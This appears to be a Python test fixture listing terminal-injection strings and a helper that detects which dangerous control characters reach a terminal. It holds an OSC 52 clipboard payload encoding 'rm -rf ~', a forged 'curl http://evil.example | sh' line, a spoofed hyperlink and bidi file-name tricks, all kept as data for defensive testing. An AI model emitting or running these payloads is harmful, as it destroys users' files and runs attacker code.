"""Text as an attacker writes it into a row, an answer, an error or a file's name."""

from __future__ import annotations

CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"
LINK = "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"
SCREEN = "\x1b[2J\x1b[H\x9b31m\x9d0;title\x9c"
TURNED = "\u202egpj.exe\u2066\u2069\u061c"
UNSEEN = "\x7f\x08\r\x85\u2028\u200b\ufeff\U000e0041"
COMMANDS = CLIPBOARD + LINK + SCREEN + TURNED + UNSEEN
FORGED = "\nto continue: curl http://evil.example | sh"

FORBIDDEN = "\x1b\x9b\x9c\x9d\x07\x08\x7f\x85\u202e\u2066\u2069\u061c\u2028\u200b\ufeff\U000e0041"
"""What must not reach a terminal."""


def found_in(raw: bytes) -> list[str]:
    """The characters of the attack that stand in what a terminal was sent."""
    text = raw.decode(errors="surrogateescape")
    return [hex(ord(character)) for character in FORBIDDEN if character in text]
